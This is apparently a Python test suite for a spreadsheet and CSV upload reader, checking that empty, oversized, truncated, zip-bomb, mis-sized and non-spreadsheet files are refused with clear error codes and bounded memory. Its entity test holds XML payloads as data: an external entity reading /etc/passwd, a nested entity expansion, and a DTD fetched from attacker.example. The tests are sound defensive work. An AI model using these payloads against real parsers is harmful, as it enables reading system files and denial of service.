"""Files that nobody should have to fear: each is refused in time, in little memory, with a sentence that helps."""

import io
import re
import subprocess
import sys
import tempfile
import time
import zipfile

import pytest
import xlsxwriter

from shared.kit.refusals import Refusal
from shared.kit.settings import ROOT
from shared.kit.spreadsheets.limits import CHILD_MEMORY, MAX_BYTES, MAX_CELLS, MAX_COLUMNS, MAX_ROWS
from shared.kit.spreadsheets.reading import _PROGRAM, read_table
from shared.kit.spreadsheets.table import Row, Unread
from tests.shared.kit.spreadsheets.books import part, plain_book, repacked

SHEET = "xl/worksheets/sheet1.xml"
HEAD = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
TAIL = b"</sheetData></worksheet>"


def code_of(data: bytes, filename: str = "名簿.xlsx") -> str:
    with pytest.raises(Refusal) as refused:
        read_table(data, filename)
    assert refused.value.field == "file"
    assert refused.value.message.endswith("。")
    return refused.value.code


@pytest.mark.parametrize("data", [b"", b" \r\n", b",,,\n,,\n", b"\xef\xbb\xbf"])
def test_nothing_in_it(data: bytes) -> None:
    assert code_of(data, "名簿.csv") == "FILE_EMPTY"


def test_an_empty_workbook() -> None:
    assert code_of(plain_book([])) == "FILE_EMPTY"


def test_too_many_bytes() -> None:
    assert code_of(b"a" * (MAX_BYTES + 1), "名簿.csv") == "FILE_TOO_LARGE"


def numbered(rows: int, tag: str = "") -> bytes:
    """A worksheet of one column; `tag` is the prefix of its namespace."""
    row = f'<{tag}row r="%d"><{tag}c r="A%d"><{tag}v>%d</{tag}v></{tag}c></{tag}row>'
    body = "".join(row % (n, n, n) for n in range(1, rows + 1)).encode()
    if not tag:
        return HEAD + body + TAIL
    renamed = [re.sub(rb"<(/?)(worksheet|sheetData)", rb"<\1" + tag.encode() + rb"\2", part) for part in (HEAD, TAIL)]
    return body.join(renamed).replace(b"xmlns=", f"xmlns:{tag[:-1]}=".encode())


@pytest.mark.parametrize("tag", ["", "x:"])
def test_of_more_rows_than_are_read_the_first_come_and_the_others_are_counted(tag: str) -> None:
    data = repacked(plain_book([["a"]]), sheet1=numbered(MAX_ROWS + 3_001, tag))
    table = read_table(data, "名簿.xlsx")
    assert (len(table.rows), table.rows[-1]) == (MAX_ROWS + 1, Row(MAX_ROWS + 1, (str(MAX_ROWS + 1),)))
    assert table.unread == Unread(MAX_ROWS + 2, 3_000)
    assert peak_of(data) < 200


def test_of_more_lines_than_are_read_the_first_come_and_the_others_are_counted() -> None:
    table = read_table(b"a,b\n" * (MAX_ROWS + 1) + b",\nc,d\n", "名簿.csv")
    assert (len(table.rows), table.unread) == (MAX_ROWS + 1, Unread(MAX_ROWS + 2, 1))


def test_a_hundred_thousand_rows_are_read_in_bounded_memory() -> None:
    """Of six columns, for the suite's sake; `make bench` imports as many of a whole list."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target, {"constant_memory": True}) as workbook:
        page = workbook.add_worksheet()
        for number in range(MAX_ROWS + 1):
            page.write_row(number, 0, [f"つながる会{number}", *["子育て"] * 5])
    assert peak_of(target.getvalue()) < 300


@pytest.mark.parametrize("place", [b"XFD1048576", b"A1048576", b"A9999999"])
def test_two_cells_far_apart_do_not_make_a_plain_between_them(place: bytes) -> None:
    sheet = HEAD + b'<row><c r="A1"><v>1</v></c><c r="' + place + b'"><v>1</v></c></row>' + TAIL
    data = repacked(plain_book([["a"]]), sheet1=sheet)
    table = read_table(data, "名簿.xlsx")
    assert (table.rows, table.unread) == ([Row(1, ("1",))], Unread(MAX_ROWS + 2, 1))
    assert peak_of(data) < 100


def test_a_wide_plain_between_two_cells_is_refused() -> None:
    sheet = HEAD + b'<row><c r="A1"><v>1</v></c><c r="GR99999"><v>1</v></c></row>' + TAIL
    data = repacked(plain_book([["a"]]), sheet1=sheet)
    assert code_of(data) == "TOO_MANY_CELLS"
    assert peak_of(data) < 100


def test_a_sheet_in_an_unusual_place_is_counted_all_the_same() -> None:
    sheet = HEAD + b'<row><c r="A1"><v>1</v></c><c r="XFD2"><v>1</v></c></row>' + TAIL
    moved = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain_book([["a"]]))) as old, zipfile.ZipFile(moved, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"worksheets/sheet1.xml", b"elsewhere/sheet1.xml"))
        new.writestr("xl/elsewhere/sheet1.xml", sheet)
    assert code_of(moved.getvalue()) == "TOO_MANY_COLUMNS"


def test_two_parts_of_one_name_are_refused() -> None:
    target = io.BytesIO(plain_book([["a"]]))
    with zipfile.ZipFile(target, "a") as package:
        package.writestr("xl/worksheets/SHEET1.xml", HEAD + TAIL)
    assert code_of(target.getvalue()) == "FILE_REFUSED"


def test_too_many_columns() -> None:
    wide = ["a"] * (MAX_COLUMNS + 1)
    assert code_of(plain_book([wide])) == "TOO_MANY_COLUMNS"
    assert code_of(",".join(wide).encode(), "名簿.csv") == "TOO_MANY_COLUMNS"


def test_too_many_cells() -> None:
    assert code_of((b"a," * 150 + b"a\n") * (MAX_CELLS // 150), "名簿.csv") == "TOO_MANY_CELLS"


def test_a_zip_bomb_is_refused_by_its_ratio() -> None:
    bomb = repacked(plain_book([["a"]]), sheet1=HEAD + b" " * 90_000_000 + TAIL)
    assert len(bomb) < 200_000
    started = time.monotonic()
    assert code_of(bomb) == "FILE_REFUSED"
    assert time.monotonic() - started < 20


def test_a_zip_bomb_of_many_parts_is_refused_by_their_number() -> None:
    target = io.BytesIO(plain_book([["a"]]))
    with zipfile.ZipFile(target, "a") as package:
        for number in range(1_001):
            package.writestr(f"xl/media/{number}.bin", b"")
    assert code_of(target.getvalue()) == "FILE_REFUSED"


def test_a_part_that_is_larger_than_it_says_is_refused() -> None:
    """The size in the directory is a claim; the reader must not find out by unfolding."""
    data = bytearray(repacked(plain_book([["a"]]), sheet1=HEAD + b" " * 900_000 + TAIL))
    size = (900_000 + len(HEAD) + len(TAIL)).to_bytes(4, "little")
    assert data.count(size) == 2
    assert code_of(bytes(data.replace(size, (500).to_bytes(4, "little")))) == "FILE_BROKEN"


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("name", ["sheet1", "sharedStrings", "workbook"])
def test_entities_are_refused(doctype: bytes, name: str) -> None:
    data = plain_book([["a"]])
    folder = {"sheet1": "xl/worksheets/", "sharedStrings": "xl/", "workbook": "xl/"}[name]
    head, tail = part(data, f"{folder}{name}.xml").split(b"?>", 1)
    assert code_of(repacked(data, **{name: head + b"?>" + doctype + tail})) == "FILE_REFUSED"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "FILE_OLD_OR_LOCKED"),
        (b"PK\x03\x04 not a zip", "FILE_BROKEN"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "NOT_A_SPREADSHEET"),
        (b"%PDF-1.7\n%\xff\xff\xff\xff\n", "UNKNOWN_ENCODING"),
        (b"name\n\xff\xff\n", "UNKNOWN_ENCODING"),
    ],
)
def test_what_is_no_spreadsheet(data: bytes, code: str) -> None:
    assert code_of(data) == code


def test_a_zip_of_something_else() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("word/document.xml", "<a/>")
    assert code_of(target.getvalue()) == "NOT_A_SPREADSHEET"


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.95])
def test_half_a_workbook(cut: float) -> None:
    data = plain_book([["a", "b"]] * 50)
    assert code_of(data[: int(len(data) * cut)]) == "FILE_BROKEN"


def test_a_sheet_that_is_not_xml() -> None:
    assert code_of(repacked(plain_book([["a"]]), sheet1=b"<worksheet><")) == "FILE_BROKEN"


def peak_of(data: bytes) -> float:
    """Megabytes that the reading process has needed at most."""
    program = f"{_PROGRAM}; print(open('/proc/self/status').read(), file=sys.stderr)"
    with tempfile.TemporaryFile() as file, tempfile.TemporaryFile() as rows:
        file.write(data)
        file.seek(0)
        command = [sys.executable, "-I", "-c", program, str(ROOT), str(rows.fileno())]
        done = subprocess.run(command, stdin=file, capture_output=True, check=True, pass_fds=[rows.fileno()])
    peak = re.search(r"VmHWM:\s*([0-9]+) kB", done.stderr.decode())
    assert peak
    return int(peak[1]) / 1024


def test_the_reading_process_has_less_memory_than_the_server() -> None:
    assert CHILD_MEMORY <= 1024**3
